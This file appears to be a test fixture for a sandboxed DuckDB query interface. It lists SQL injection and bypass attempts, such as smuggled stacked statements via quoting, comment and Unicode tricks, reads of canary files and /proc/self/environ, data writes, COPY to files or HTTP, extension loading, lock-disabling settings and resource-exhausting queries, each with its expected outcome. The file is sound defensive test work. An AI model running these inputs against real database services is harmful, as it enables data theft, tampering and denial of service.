-- What an attacker would have a DuckDB database do. See README.md for the format.
-- The database has item(id, name, price) of three rows, and log(line), which is empty.

--- function refused
SELECT @setval('s', 7)
--- function refused
SELECT x:nextval('s')
--- file refused
SELECT * FROM x:read_csv('${canary}')
--- file refused
SELECT * FROM histogram('${canary}', word)
--- file refused
SELECT * FROM main.histogram_values(col_name := word, source := lower('${canary}'))
--- function refused
SELECT * FROM query('SELECT nextval(''evil'')')
--- function refused
SELECT * FROM item, query('FROM read_text(''${canary}'')')
--- function refused
SELECT * FROM query_table(['${canary}'])
--- function refused
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
--- function refused
SELECT 's'.`nextval`()
--- file refused
SELECT * FROM `read_csv`('${canary}')
--- file refused
SELECT * FROM item, '${canary}'
--- file refused
SELECT * FROM x: '${canary}'
--- file refused
SELECT * FROM ('${canary}')
--- file refused
TABLE "${canary}"
--- file refused
PIVOT '${canary}' ON word
--- file refused
SELECT * FROM (SUMMARIZE '${canary}')
--- write refused
INSERT INTO item VALUES (9, 'evil', 1)
--- write refused
INSERT INTO log SELECT name FROM item RETURNING line
--- write refused
INSERT OR REPLACE INTO item VALUES (1, 'evil', 0)
--- write refused
INSERT INTO item BY NAME (SELECT 1 AS id, 'evil' AS name)
--- write refused
UPDATE item SET price = 0
--- write refused
DELETE FROM item USING log
--- write refused
TRUNCATE item
--- write refused
MERGE INTO item USING log ON item.name = log.line WHEN NOT MATCHED BY SOURCE THEN DELETE
--- cte refused
WITH x AS (SELECT 1 AS id) INSERT INTO item SELECT id, 'evil', 0 FROM x
--- cte refused
WITH x AS (INSERT INTO item VALUES (9, 'evil', 1) RETURNING id) SELECT * FROM x
--- cte refused
WITH x AS MATERIALIZED (DELETE FROM item RETURNING *) FROM x
--- cte refused
WITH x AS (COPY (SELECT from_hex('6576696c')) TO '${out}' (FORMAT blob, USE_TMP_FILE false)) SELECT * FROM x
--- cte refused
WITH x AS (COPY (SELECT * FROM item) TO '${out}' (FORMAT csv, PARTITION_BY (id), OVERWRITE)) FROM x
--- cte refused
WITH a AS (SELECT 1), x AS MATERIALIZED (TRUNCATE item) SELECT * FROM x
--- cte refused
SELECT * FROM (WITH x AS (WITH y AS (COPY item TO '${out}') FROM y) FROM x) AS z
--- cte refused
WITH x AS (DELETE FROM item) FROM x
--- ddl refused
CREATE TABLE evil (a INTEGER)
--- ddl refused
CREATE OR REPLACE TABLE item AS SELECT 99 AS id
--- ddl refused
CREATE TEMP TABLE item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price
--- ddl refused
CREATE OR REPLACE TEMP VIEW item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price
--- ddl refused
CREATE TEMP MACRO count(x) AS 666
--- ddl refused
CREATE OR REPLACE TEMP MACRO sum(x) AS 666; SELECT sum(price) FROM item
--- ddl refused
CREATE SCHEMA evil
--- ddl refused
CREATE SEQUENCE evil
--- ddl refused
CREATE TYPE mood AS ENUM ('evil')
--- ddl refused
DROP TABLE item
--- ddl refused
ALTER TABLE item ADD COLUMN evil INTEGER
--- ddl refused
COMMENT ON TABLE item IS 'evil'
--- ddl refused
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
--- ddl refused
CREATE PERSISTENT SECRET s IN local_file (TYPE http, BEARER_TOKEN 'evil')
--- stacked refused
SELECT 1; DROP TABLE item
--- stacked refused
INSERT INTO item VALUES (9, 'evil', 1); SELECT * FROM item
--- stacked refused
SELECT ';'; DELETE FROM item
--- stacked refused
SELECT $$;$$; DELETE FROM item
--- stacked refused
SELECT $a$;$b$;$a$; DELETE FROM item
--- stacked refused
SET threads = 4; SELECT * FROM item
--- stacked refused
SELECT E'\';'; DELETE FROM item --'
--- stacked refused
SELECT E'a'
'\'; CREATE TEMP TABLE item AS SELECT 99 AS id, 'evil' AS name, 0.0 AS price; SELECT 3 --'
--- stacked refused
SELECT 0x$$; CREATE TEMP TABLE item AS SELECT 99 AS id, 'evil' AS name, 0.0 AS price; SELECT 2
--- stacked refused
SELECT 0x$$; CREATE TEMP TABLE item AS SELECT 98 AS id, 'evil' AS name, 0.0 AS price; SELECT 2 --$$
--- stacked refused
SELECT 1 AS a${u+2028}$$; CREATE TEMP TABLE item AS SELECT 99 AS id, 'evil' AS name, 0.0 AS price --$$
--- stacked refused
SELECT 1${u+2028}$$; CREATE TEMP MACRO count(x) AS 666; SELECT 2 --$$
--- stacked refused
SELECT 1 AS a${u+0001}$$; CREATE TEMP MACRO count(x) AS 666; SELECT 2 --$$
--- stacked refused
SELECT 'a'${u+007F}$é$; SET VARIABLE evil = 666 --$é$
--- stacked refused
SELECT 1${u+0085}$$; PREPARE evil AS SELECT 666 --$$
--- comment refused
/* SELECT 1 */ DELETE FROM item
--- comment refused
/* /* nested */ SELECT 1 */ DELETE FROM item
--- comment refused
SELECT 1 -- harmless${u+000D}; DELETE FROM item
--- comment query
/*! DELETE FROM item */
--- comment refused
SELECT 1 /* ; */ ; /* */ COPY item TO '${out}'
--- encoding refused
${u+FEFF}DELETE FROM item
--- encoding refused
SELECT 1${u+0000}; DELETE FROM item
--- encoding refused
DELETE${u+00A0}FROM${u+2003}item
--- encoding refused
ＣＯＰＹ item TO '${out}'
--- encoding refused
SELECT 'a\'; COPY item TO '${out}'; --'
--- encoding refused
SELECT U&'\0027; DELETE FROM item --'; DELETE FROM item
--- transaction refused
BEGIN TRANSACTION READ WRITE; INSERT INTO item VALUES (9, 'evil', 1); COMMIT
--- transaction refused
BEGIN; SELECT 1
--- transaction refused
COMMIT; DELETE FROM item
--- transaction refused
ROLLBACK; CREATE TABLE evil(a INT)
--- transaction refused
START TRANSACTION; DELETE FROM item
--- prepare refused
PREPARE p AS DELETE FROM item; EXECUTE p
--- prepare refused
PREPARE p AS SELECT 666; SELECT 1
--- prepare refused
EXECUTE p
--- copy refused
COPY item TO '${out}'
--- copy refused
COPY (SELECT * FROM item) TO '${out}' (FORMAT PARQUET)
--- copy refused
COPY item FROM '${canary}'
--- copy refused
COPY item TO 'evil.csv' (HEADER)
--- copy refused
COPY (SELECT 'evil') TO '/dev/stdout'
--- copy refused
COPY FROM DATABASE shop TO memory
--- copy refused
EXPORT DATABASE '${out}'
--- copy refused
IMPORT DATABASE '${folder}'
--- own-file query
WITH x AS (COPY (SELECT from_hex('414243')) TO '${self}' (FORMAT blob, USE_TMP_FILE false)) SELECT * FROM x
--- own-file query
WITH x AS (COPY item TO '${self}' (FORMAT csv, PARTITION_BY (id), OVERWRITE)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT from_hex('414243')) TO '${self}.wal' (FORMAT blob)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT 'evil') TO '${self}.wal' (FORMAT csv)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT 'evil' AS a) TO '${self}.wal' (FORMAT json)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT 'evil' AS a) TO '${self}.wal' (FORMAT parquet)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT 'evil') TO '${self}.wal.recovery' (FORMAT csv)) SELECT * FROM x
--- own-file query
WITH x AS (COPY (SELECT 'evil') TO '${self}.wal.checkpoint' (FORMAT csv)) SELECT * FROM x
--- own-file query
SELECT * FROM (WITH x AS (COPY (SELECT 'evil') TO '${self}.wal' (FORMAT csv)) SELECT * FROM x)
--- own-file refused
COPY (SELECT 'evil') TO '${self}.wal' (FORMAT csv)
--- own-file refused
EXPORT DATABASE '${self}.wal'
--- own-file query
EXPLAIN ANALYZE COPY (SELECT 'evil') TO '${self}.wal' (FORMAT csv)
--- own-file refused
ATTACH '${self}' AS again
--- own-file refused
ATTACH '${self}.wal' AS again
--- own-file refused
USE system; DETACH shop
--- own-file query
SELECT * FROM read_blob('${self}')
--- shadow query
SELECT E'a'
'\'; CREATE TEMP TABLE item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price; SELECT 3 --'
--- shadow query
SELECT 0x$$; CREATE TEMP TABLE item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price; SELECT 2
--- shadow query
SELECT 1${u+2028}$$; CREATE TEMP TABLE item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price; SELECT 2 --$$
--- shadow query
SELECT 1${u+001B}$$; CREATE TEMP TABLE item AS SELECT 99 AS id, 'shadow' AS name, 0.0 AS price; SELECT 2 --$$
--- shadow query
PIVOT item ON name USING sum(price)
--- attach refused
ATTACH '${other}' AS other
--- attach refused
ATTACH '${out}' AS fresh; CREATE TABLE fresh.t(a INT)
--- attach refused
ATTACH ':memory:' AS m
--- attach refused
ATTACH '${other}' AS other (READ_ONLY FALSE); DELETE FROM other.item
--- attach refused
ATTACH 'http://127.0.0.1:${port}/x.db' AS web (READ_ONLY)
--- attach refused
ATTACH '${canary}' AS lite (TYPE sqlite)
--- attach refused
DETACH shop
--- attach refused
USE memory
--- file refused
SELECT * FROM read_csv('${canary}')
--- file refused
SELECT * FROM read_text('${canary}')
--- file refused
SELECT content FROM read_blob('${folder}/*')
--- file refused
SELECT * FROM glob('${folder}/*')
--- file refused
SELECT * FROM '${canary}'
--- file refused
FROM '${folder}/*.csv'
--- file refused
SELECT * FROM "read_text"('${canary}')
--- file refused
SELECT * FROM read_json_auto('/proc/self/environ')
--- file refused
SELECT * FROM parquet_metadata('${canary}')
--- file refused
SELECT * FROM sniff_csv('${canary}')
--- file refused
SELECT * FROM item, LATERAL (SELECT * FROM read_text('${canary}'))
--- file query
SELECT * FROM "${canary}"
--- file query
SELECT * FROM query('SELECT * FROM read_text(''${canary}'')')
--- file query
SELECT * FROM query_table('${canary}')
--- file query
SELECT getenv('HOME')
--- file query
SELECT * FROM duckdb_secrets()
--- file query
SELECT * FROM which_secret('http://127.0.0.1:${port}/', 'http')
--- network refused
SELECT * FROM read_csv('http://127.0.0.1:${port}/evil.csv')
--- network refused
SELECT * FROM read_parquet(['http://127.0.0.1:${port}/a', 's3://evil/b'])
--- network refused
SELECT * FROM 'https://127.0.0.1:${port}/evil.parquet'
--- network refused
COPY item TO 'http://127.0.0.1:${port}/evil'
--- network refused
SELECT * FROM postgres_scan('host=127.0.0.1 port=${port}', 'public', 'item')
--- network query
SELECT * FROM "http://127.0.0.1:${port}/evil.json"
--- extension refused
INSTALL httpfs
--- extension refused
INSTALL evil FROM 'http://127.0.0.1:${port}'
--- extension refused
FORCE INSTALL spatial FROM core_nightly
--- extension refused
LOAD '${canary}'
--- extension refused
LOAD httpfs
--- extension refused
UPDATE EXTENSIONS
--- setting refused
SET enable_external_access = true
--- setting refused
SET lock_configuration = false
--- setting refused
SET GLOBAL memory_limit = '100GB'
--- setting refused
RESET memory_limit
--- setting refused
PRAGMA temp_directory = '${folder}'
--- setting refused
PRAGMA enable_profiling = 'json'; PRAGMA profiling_output = '${out}'
--- setting refused
SET log_query_path = '${out}'
--- setting refused
SET allowed_directories = ['/']
--- setting refused
SET home_directory = '${folder}'
--- setting refused
SET schema = 'pg_catalog'
--- setting refused
SET default_null_order = 'nulls_first'
--- setting refused
SET VARIABLE evil = 666
--- setting refused
CALL enable_logging('QueryLog', storage = 'file', storage_path = '${folder}')
--- setting refused
CALL start_ui()
--- setting refused
CALL force_checkpoint()
--- setting refused
CHECKPOINT
--- setting refused
PRAGMA database_size
--- setting refused
VACUUM ANALYZE
--- setting query
SELECT current_setting('enable_external_access'), getvariable('evil')
--- setting query
SELECT setseed(0.5), random()
--- setting query
SELECT nextval_does_not_exist('evil'), write_log('evil')
--- bomb bomb
WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT count(*) FROM c
--- bomb bomb
SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE (a.range * b.range) % 7 = 3
--- bomb bomb
SELECT * FROM range(20000000) ORDER BY hash(range)
--- bomb bomb
SELECT sum(sin(range) * cos(range)) FROM range(1000000000000)
--- bomb bomb
SELECT regexp_matches(repeat('a', 100000), '(a|aa|aaa)*(b|bb)*c{1,900}$') FROM range(10000)
--- bomb bomb
WITH RECURSIVE f(a, b) AS (SELECT 1::HUGEINT, 1::HUGEINT UNION ALL SELECT b, (a + b) % 1000000007 FROM f) SELECT max(a) FROM f
--- bomb bomb
SELECT count(DISTINCT hash(range)) FROM range(1000000000)
--- heavy heavy
SELECT list_sum(list_transform(range(100000), x -> list_sum(range(x)))) FROM item
--- heavy heavy
SELECT repeat('x', 1000000000)
--- heavy heavy
SELECT string_agg(repeat('x', 1000000)) FROM range(1500)
--- heavy heavy
SELECT list(repeat('x', 100000)) FROM range(20000)
--- heavy heavy
SELECT range(200000000)
--- heavy heavy
SELECT levenshtein(repeat('ab', 200000), repeat('ba', 200000))
--- activity refused
SELECT message FROM duckdb_logs()
